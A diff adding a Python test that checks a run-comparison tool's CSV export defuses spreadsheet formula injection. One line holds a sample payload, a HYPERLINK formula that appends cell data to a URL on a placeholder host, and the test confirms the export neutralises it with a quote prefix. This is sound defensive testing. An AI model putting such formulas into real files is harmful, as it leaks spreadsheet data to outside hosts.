@@ -128,6 +128,14 @@ def test_a_curve_knows_where_its_run_was_edited_on_every_axis() -> None:
     assert compare.curves([Compared(runs[1].run, History())], "loss")[0].edits == ()
 
 
+def test_a_name_is_no_formula() -> None:
+    name = '=HYPERLINK("http://x.invalid/"&A1)'
+    one = Compared(dataclasses.replace(RUNS[0].run, name=name), RUNS[0].history)
+    rows = list(csv.DictReader(compare.table_csv([one, RUNS[1]]).splitlines()))
+    assert rows[0]["name"] == f"'{name}"
+    assert rows[0]["best_validation_accuracy"] == str(one.run.best_accuracy or "")
+
+
 def test_tables_and_points_are_written_for_others() -> None:
     rows = list(csv.DictReader(compare.table_csv(RUNS).splitlines()))
     assert [row["id"] for row in rows] == ["mine-1", "mine-2"]
